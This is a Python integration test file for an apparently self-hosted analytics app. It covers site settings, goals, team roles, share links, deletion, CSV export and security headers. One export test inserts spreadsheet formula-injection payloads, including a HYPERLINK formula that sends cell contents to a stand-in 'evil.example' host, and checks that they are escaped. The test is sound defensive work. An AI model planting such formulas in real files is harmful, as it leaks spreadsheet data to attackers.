"""Sites, goals, teams, share links, deletion and export through the API, on both modes."""

from __future__ import annotations

import asyncio
import csv
import io
import time
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from litestar import get, post
from litestar.di import NamedDependency
from litestar.testing import AsyncTestClient
from sqlalchemy.ext.asyncio import AsyncSession

from datafast.app import create_app
from datafast.db.config import sqlalchemy_config
from datafast.db.migrate import migrate_config_db
from datafast.db.models import Website
from datafast.domain.accounts.services import UserService
from datafast.lib.adapters import Adapters
from tests.conftest import SettingsFactory
from tests.helpers import CHROME_MAC
from tests.integration.accounts.conftest import (
    PASSWORD,
    Browser,
    Client,
    Mailbox,
    login,
    signup,
    unique_email,
)


async def test_create_site_validates_and_normalises(client: Client) -> None:
    owner = await signup(client)
    domain = f"shop{uuid.uuid4().hex[:6]}.example.com"

    created = await owner.post(
        "/api/v1/sites",
        json={
            "domain": f"https://{domain.upper()}/pricing",
            "timezone": "Europe/Paris",
            "currency": "eur",
            "hostnames": ["checkout.stripe-example.com", "CHECKOUT.stripe-example.com"],
        },
    )

    assert created.status_code == 201, created.text
    site = created.json()
    assert site["domain"] == domain
    assert site["currency"] == "EUR"
    assert site["hostnames"] == ["checkout.stripe-example.com"]
    assert site["role"] == "owner"
    for bad in (
        {"domain": "localhost"},
        {"domain": "exa mple.com"},
        {"domain": domain + "x", "timezone": "Mars/Olympus"},
        {"domain": domain + "y", "currency": "EURO"},
        {"domain": domain + "z", "hostnames": ["not a host"]},
        {"domain": 12},
        {"domain": domain + "w", "unknown": 1},
    ):
        response = await owner.post("/api/v1/sites", json=bad)
        assert response.status_code == 400, (bad, response.text)
        assert response.headers["content-type"] == "application/problem+json"
    # An unverified domain does not block anyone (tests/integration/accounts/test_site_verification.py).
    assert (await owner.post("/api/v1/sites", json={"domain": domain})).status_code == 201


async def test_update_site_and_snippet(client: Client) -> None:
    owner = await signup(client)
    site = await owner.create_site()

    updated = await owner.patch(
        f"/api/v1/sites/{site['id']}",
        json={"name": "My shop", "timezone": "Asia/Tokyo", "hostnames": ["a.example.org"]},
    )
    assert updated.status_code == 200, updated.text
    assert updated.json()["name"] == "My shop"
    assert updated.json()["timezone"] == "Asia/Tokyo"
    assert updated.json()["hostnames"] == ["a.example.org"]
    assert (await owner.patch(f"/api/v1/sites/{site['id']}", json={"currency": "x"})).status_code == 400

    snippet = (await owner.get(f"/api/v1/sites/{site['id']}/snippet")).json()["html"]
    assert f'data-website-id="{site["id"]}"' in snippet
    assert 'src="http://localhost:8000/js/script.js"' in snippet


async def track(client: Client, site: dict[str, Any], url: str) -> int:
    body = {"website_id": site["id"], "page_url": url}
    response = await client.post("/track", json=body, headers={"user-agent": CHROME_MAC})
    return response.status_code


async def test_changed_hostnames_reach_track_at_once(client: Client) -> None:
    owner = await signup(client)
    site = await owner.create_site()
    assert await track(client, site, "https://new.example.net/") == 400  # and /track caches the site

    await owner.patch(f"/api/v1/sites/{site['id']}", json={"hostnames": ["new.example.net"]})

    assert await track(client, site, "https://new.example.net/") == 202


async def test_goals(client: Client) -> None:
    owner = await signup(client)
    site = await owner.create_site()
    base = f"/api/v1/sites/{site['id']}/goals"

    page = await owner.post(base, json={"name": "Thanks", "kind": "pageview", "path": "/thank-you*"})
    event = await owner.post(base, json={"name": "Signup", "kind": "event", "event_name": "signup"})
    assert page.status_code == event.status_code == 201, (page.text, event.text)
    assert (
        await owner.post(base, json={"name": "Bad", "kind": "pageview", "path": "no-slash"})
    ).status_code == 400
    assert (await owner.post(base, json={"name": "Bad", "kind": "event"})).status_code == 400
    assert (await owner.post(base, json={"name": "Bad", "kind": "other"})).status_code == 400
    assert (
        await owner.post(base, json={"name": "Thanks", "kind": "event", "event_name": "x"})
    ).status_code == 409

    listed = (await owner.get(base)).json()
    assert [(g["name"], g["kind"], g["path"], g["event_name"]) for g in listed] == [
        ("Thanks", "pageview", "/thank-you*", None),
        ("Signup", "event", None, "signup"),
    ]
    renamed = await owner.patch(f"{base}/{page.json()['id']}", json={"name": "Thank you", "path": "/thanks"})
    assert renamed.status_code == 200, renamed.text
    assert (renamed.json()["name"], renamed.json()["path"]) == ("Thank you", "/thanks")
    assert (await owner.patch(f"{base}/{page.json()['id']}", json={"path": "thanks"})).status_code == 400
    assert (await owner.patch(f"{base}/{page.json()['id']}", json={"name": "Signup"})).status_code == 409
    assert (await owner.patch(f"{base}/{uuid.uuid4()}", json={"name": "x"})).status_code == 404
    assert (await owner.delete(f"{base}/{page.json()['id']}")).status_code == 204
    assert (await owner.delete(f"{base}/{page.json()['id']}")).status_code == 404
    assert [g["name"] for g in (await owner.get(base)).json()] == ["Signup"]


async def invite(owner: Browser, site_id: str, member: Browser, role: str, mailbox: Mailbox) -> None:
    response = await owner.post(
        f"/api/v1/sites/{site_id}/invitations", json={"email": member.email, "role": role}
    )
    assert response.status_code == 201, response.text
    token = await mailbox.token(member.email, "You are invited")
    accepted = await member.post("/api/v1/invitations/accept", json={"token": token})
    assert accepted.status_code == 200, accepted.text
    assert accepted.json()["role"] == role
    mailbox.messages.clear()


async def test_team_invite_roles_transfer_and_leave(client: Client, mailbox: Mailbox) -> None:
    owner, admin, viewer, stranger = [await signup(client) for _ in range(4)]
    site = await owner.create_site()
    sid = site["id"]
    await invite(owner, sid, admin, "admin", mailbox)
    await invite(owner, sid, viewer, "viewer", mailbox)

    members = (await viewer.get(f"/api/v1/sites/{sid}/members")).json()
    assert {(m["email"], m["role"]) for m in members} == {
        (owner.email, "owner"),
        (admin.email, "admin"),
        (viewer.email, "viewer"),
    }
    # viewers read but cannot write
    assert (await viewer.get(f"/api/v1/sites/{sid}")).status_code == 200
    assert (await viewer.patch(f"/api/v1/sites/{sid}", json={"name": "x"})).status_code == 403
    assert (
        await viewer.post(
            f"/api/v1/sites/{sid}/goals", json={"name": "g", "kind": "event", "event_name": "e"}
        )
    ).status_code == 403
    # admins change settings and members, but not the owner, and cannot delete or transfer
    assert (await admin.patch(f"/api/v1/sites/{sid}", json={"name": "By admin"})).status_code == 200
    assert (
        await admin.patch(f"/api/v1/sites/{sid}/members/{owner.id}", json={"role": "viewer"})
    ).status_code == 409
    assert (await admin.delete(f"/api/v1/sites/{sid}")).status_code == 403
    assert (await admin.post(f"/api/v1/sites/{sid}/transfer", json={"user_id": admin.id})).status_code == 403
    # the stranger sees nothing
    assert (await stranger.get(f"/api/v1/sites/{sid}")).status_code == 404
    assert (await stranger.get(f"/api/v1/sites/{sid}/members")).status_code == 404
    # promote the viewer; transfer ownership to the admin
    promoted = await admin.patch(f"/api/v1/sites/{sid}/members/{viewer.id}", json={"role": "admin"})
    assert promoted.status_code == 200
    assert promoted.json()["role"] == "admin"
    assert (
        await owner.post(f"/api/v1/sites/{sid}/transfer", json={"user_id": stranger.id})
    ).status_code == 404
    assert (await owner.post(f"/api/v1/sites/{sid}/transfer", json={"user_id": admin.id})).status_code == 204
    roles = {m["email"]: m["role"] for m in (await owner.get(f"/api/v1/sites/{sid}/members")).json()}
    assert roles == {owner.email: "admin", admin.email: "owner", viewer.email: "admin"}
    # the owner cannot leave; others can
    assert (await admin.post(f"/api/v1/sites/{sid}/leave")).status_code == 409
    assert (await owner.post(f"/api/v1/sites/{sid}/leave")).status_code == 204
    assert (await owner.get(f"/api/v1/sites/{sid}")).status_code == 404
    # remove a member
    assert (await admin.delete(f"/api/v1/sites/{sid}/members/{viewer.id}")).status_code == 204
    assert (await viewer.get(f"/api/v1/sites/{sid}")).status_code == 404


async def test_invitations_are_single_use_and_for_one_address(client: Client, mailbox: Mailbox) -> None:
    owner, invited, other = [await signup(client) for _ in range(3)]
    site = await owner.create_site()
    sid = site["id"]
    response = await owner.post(f"/api/v1/sites/{sid}/invitations", json={"email": invited.email})
    assert response.status_code == 201
    token = await mailbox.token(invited.email, "You are invited")

    assert (await other.post("/api/v1/invitations/accept", json={"token": token})).status_code == 403
    assert (await invited.post("/api/v1/invitations/accept", json={"token": token})).status_code == 200
    assert (await invited.post("/api/v1/invitations/accept", json={"token": token})).status_code == 410
    assert (
        await owner.post(f"/api/v1/sites/{sid}/invitations", json={"email": invited.email})
    ).status_code == 409
    assert (
        await owner.post(f"/api/v1/sites/{sid}/invitations", json={"email": other.email, "role": "owner"})
    ).status_code == 400

    pending = await owner.post(f"/api/v1/sites/{sid}/invitations", json={"email": other.email})
    listed = (await owner.get(f"/api/v1/sites/{sid}/invitations")).json()
    assert [i["email"] for i in listed] == [other.email]
    assert (await owner.delete(f"/api/v1/sites/{sid}/invitations/{pending.json()['id']}")).status_code == 204
    assert (await owner.get(f"/api/v1/sites/{sid}/invitations")).json() == []


async def test_share_link_password_and_revocation(client: Client) -> None:
    owner = await signup(client)
    site = await owner.create_site()
    other_site = await owner.create_site()
    created = await owner.post(
        f"/api/v1/sites/{site['id']}/share-links", json={"name": "public", "password": "s3cret"}
    )
    assert created.status_code == 201, created.text
    link = created.json()
    assert link["password_protected"] is True
    assert link["url"].endswith(f"/share/{link['slug']}")

    public = await client.get(f"/api/v1/share/{link['slug']}")
    assert public.status_code == 200
    assert public.json() == {"domain": site["domain"], "name": site["name"], "password_required": True}
    assert (await client.post(f"/api/v1/share/{link['slug']}/access", json={})).status_code == 401
    assert (
        await client.post(f"/api/v1/share/{link['slug']}/access", json={"password": "nope"})
    ).status_code == 401
    opened = await client.post(f"/api/v1/share/{link['slug']}/access", json={"password": "s3cret"})
    assert opened.status_code == 200, opened.text
    bearer = {"Authorization": f"Bearer {opened.json()['access_token']}"}

    # read-only, one site, and only where routes opt in to share links
    assert (await client.get(f"/api/v1/sites/{site['id']}", headers=bearer)).status_code == 404
    assert (await client.get(f"/api/v1/sites/{site['id']}/members", headers=bearer)).status_code == 404
    assert (await client.get(f"/api/v1/sites/{other_site['id']}", headers=bearer)).status_code == 404
    assert (await client.get("/api/v1/sites", headers=bearer)).status_code == 401
    assert (
        await client.patch(f"/api/v1/sites/{site['id']}", json={"name": "x"}, headers=bearer)
    ).status_code == 404

    assert (await owner.delete(f"/api/v1/sites/{site['id']}/share-links/{link['id']}")).status_code == 204
    assert (await client.get(f"/api/v1/share/{link['slug']}")).status_code == 404
    assert (await client.get(f"/api/v1/sites/{site['id']}", headers=bearer)).status_code == 401


async def test_share_link_tokens_work_on_routes_that_opt_in(make_settings: SettingsFactory) -> None:
    """The Stats API opts in with opt={"share": True}; a route registered here shows the rule."""

    @get("/api/v1/sites/{website_id:uuid}/shared-probe", opt={"share": True})
    async def probe(website: NamedDependency[Website]) -> dict[str, str]:
        return {"domain": website.domain}

    @post("/api/v1/sites/{website_id:uuid}/shared-probe", opt={"share": True})
    async def probe_write(website: NamedDependency[Website]) -> dict[str, str]:
        return {"domain": website.domain}

    app = create_app(make_settings())
    app.register(probe)
    app.register(probe_write)
    async with AsyncTestClient(app) as client:
        owner = await signup(client)
        site, other = await owner.create_site(), await owner.create_site()
        link = (await owner.post(f"/api/v1/sites/{site['id']}/share-links", json={})).json()
        opened = await client.post(f"/api/v1/share/{link['slug']}/access", json={})
        assert opened.status_code == 200
        assert opened.json()["website_id"] == site["id"]
        bearer = {"Authorization": f"Bearer {opened.json()['access_token']}"}

        read = await client.get(f"/api/v1/sites/{site['id']}/shared-probe", headers=bearer)
        assert read.status_code == 200, read.text
        assert read.json() == {"domain": site["domain"]}
        assert (
            await client.get(f"/api/v1/sites/{other['id']}/shared-probe", headers=bearer)
        ).status_code == 404
        assert (
            await client.post(f"/api/v1/sites/{site['id']}/shared-probe", headers=bearer)
        ).status_code == 403
        assert (await client.get(f"/api/v1/sites/{site['id']}/shared-probe")).status_code == 401


async def test_delete_site_removes_config_and_clickhouse_rows(client: Client, adapters: Adapters) -> None:
    owner = await signup(client)
    site, kept = await owner.create_site(), await owner.create_site()
    # a refused hostname: nothing stored, but /track now caches the site
    assert await track(client, site, "https://unrelated.example.org/") == 400
    store = adapters.event_store
    now = datetime.now(UTC)
    for website in (site, kept):
        await store.insert(
            "events",
            [[uuid.UUID(website["id"]), uuid.uuid4(), "pageview", now, "v1", "s1", "/"]],
            ["website_id", "event_id", "event_type", "timestamp", "visitor_id", "session_id", "pathname"],
        )

    response = await owner.delete(f"/api/v1/sites/{site['id']}")

    assert response.status_code == 204, response.text
    assert (await owner.get(f"/api/v1/sites/{site['id']}")).status_code == 404
    assert await track(client, site, f"https://{site['domain']}/") == 404  # /track forgot it at once
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        counts = {
            w["id"]: (
                await store.query(
                    "SELECT count() FROM events WHERE website_id = {s:UUID}", parameters={"s": w["id"]}
                )
            ).result_rows[0][0]
            for w in (site, kept)
        }
        if counts[site["id"]] == 0:
            break
        await asyncio.sleep(0.1)
    assert counts == {site["id"]: 0, kept["id"]: 1}


async def test_export_streams_every_event_as_csv(client: Client, adapters: Adapters) -> None:
    from datafast.domain.sites.data import export_events_csv

    owner = await signup(client)
    site = await owner.create_site()
    start = datetime(2026, 1, 1, tzinfo=UTC)
    rows = [
        [
            uuid.UUID(site["id"]),
            uuid.uuid4(),
            "pageview",
            start + timedelta(seconds=i % 7),
            f"v{i}",
            "s",
            f"/p{i}",
        ]
        for i in range(45)
    ]
    await adapters.event_store.insert(
        "events",
        rows,
        ["website_id", "event_id", "event_type", "timestamp", "visitor_id", "session_id", "pathname"],
    )

    response = await owner.get(f"/api/v1/sites/{site['id']}/export")

    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["x-total-rows"] == "45"
    parsed = list(csv.DictReader(io.StringIO(response.text)))
    assert sorted(r["pathname"] for r in parsed) == sorted(f"/p{i}" for i in range(45))
    # small chunks page through ties on timestamp without losing or repeating a row
    chunks = [c async for c in export_events_csv(adapters.event_store, uuid.UUID(site["id"]), chunk_rows=4)]
    assert len(chunks) > 10
    again = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert sorted(r["event_id"] for r in again) == sorted(r["event_id"] for r in parsed)


async def test_export_neutralises_spreadsheet_formulas_in_cells(client: Client, adapters: Adapters) -> None:
    """Anyone can send a referrer or goal name to /track: a spreadsheet must show it, not run it."""
    owner = await signup(client)
    site = await owner.create_site()
    formula = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
    await adapters.event_store.insert(
        "events",
        [
            [
                uuid.UUID(site["id"]),
                uuid.uuid4(),
                "goal",
                datetime(2026, 1, 1, tzinfo=UTC),
                "v1",
                "s1",
                "/pricing",
                "=1+2",
                formula,
                "@SUM(A1:A9)",
            ]
        ],
        [
            *("website_id", "event_id", "event_type", "timestamp", "visitor_id", "session_id"),
            *("pathname", "referrer", "goal_name", "utm_source"),
        ],
    )

    response = await owner.get(f"/api/v1/sites/{site['id']}/export")

    assert response.status_code == 200, response.text
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    # defusedcsv's escaping: a leading quote makes the cell text (and "|" cannot start a DDE call)
    assert row["referrer"] == "'=1+2"
    assert row["goal_name"] == "'" + formula
    assert row["utm_source"] == "'@SUM(A1:A9)"
    assert (row["pathname"], row["event_type"], row["visitor_id"]) == ("/pricing", "goal", "v1")
    assert row["website_id"] == site["id"]


async def test_delete_account_deletes_owned_sites_and_keeps_shared_ones(
    client: Client, mailbox: Mailbox, db_session: AsyncSession
) -> None:
    leaving, other = await signup(client), await signup(client)
    owned = await leaving.create_site()
    theirs = await other.create_site()
    await invite(other, theirs["id"], leaving, "admin", mailbox)

    assert (await leaving.delete("/api/v1/account")).status_code == 204

    assert (await leaving.get("/api/v1/auth/me")).status_code == 401
    assert (await other.get(f"/api/v1/sites/{owned['id']}")).status_code == 404
    members = (await other.get(f"/api/v1/sites/{theirs['id']}/members")).json()
    assert [m["email"] for m in members] == [other.email]
    login = await client.post(
        "/api/v1/auth/login", json={"email": leaving.email, "password": "correct horse 1"}
    )
    assert login.status_code == 401


async def test_security_headers_on_api_answers(client: Client) -> None:
    response = await client.get("/api/v1/sites")

    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert response.headers["referrer-policy"] == "same-origin"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "strict-transport-security" not in response.headers  # BASE_URL is http here


async def test_hsts_when_base_url_is_https_and_the_schema_lists_the_api(
    make_settings: SettingsFactory,
) -> None:
    app = create_app(make_settings(BASE_URL="https://analytics.example.com"))
    async with AsyncTestClient(app) as client:
        response = await client.get("/api/v1/auth/me")
        schema = await client.get("/api/schema/openapi.json")

    assert response.headers["strict-transport-security"].startswith("max-age=")
    assert schema.status_code == 200, schema.text
    paths = schema.json()["paths"]
    for path in (
        "/api/v1/auth/login",
        "/api/v1/sites/{website_id}",
        "/api/v1/api-keys",
        "/api/v1/share/{slug}",
    ):
        assert path in paths, sorted(paths)


@pytest.mark.parametrize("mode", [pytest.param("scaled", marks=pytest.mark.scaled)], indirect=True)
async def test_a_site_change_reaches_the_other_web_processes(make_settings: SettingsFactory) -> None:
    """Two web processes sharing Valkey: a change made through one reaches /track on the other."""
    settings = make_settings()
    async with AsyncTestClient(create_app(settings)) as one, AsyncTestClient(create_app(settings)) as two:
        owner = await signup(one)
        site = await owner.create_site()
        assert await track(two, site, "https://moved.example.net/") == 400  # two caches the site

        await owner.patch(f"/api/v1/sites/{site['id']}", json={"hostnames": ["moved.example.net"]})

        deadline = time.monotonic() + 5
        while await track(two, site, "https://moved.example.net/") != 202:
            assert time.monotonic() < deadline, "the other process kept its stale copy"
            await asyncio.sleep(0.05)


async def test_invited_people_can_sign_up_when_sign_up_is_closed(make_settings: SettingsFactory) -> None:
    settings = make_settings(SIGNUP_OPEN="false")
    owner_email = unique_email()
    # the first admin of a closed install comes from `datafast user create` (the same service)
    config = sqlalchemy_config(settings)
    await migrate_config_db(config.get_engine())
    async with config.get_session() as session:
        await UserService(session=session).create_user(owner_email, PASSWORD, verified=True)
        await session.commit()
    await config.get_engine().dispose()

    async with AsyncTestClient(create_app(settings)) as client:
        owner = await login(client, owner_email)
        site = await owner.create_site()
        invited, stranger = unique_email(), unique_email()
        await owner.post(f"/api/v1/sites/{site['id']}/invitations", json={"email": invited})

        refused = await client.post("/api/v1/auth/signup", json={"email": stranger, "password": PASSWORD})
        allowed = await client.post("/api/v1/auth/signup", json={"email": invited, "password": PASSWORD})

    assert refused.status_code == 403
    assert allowed.status_code == 201, allowed.text
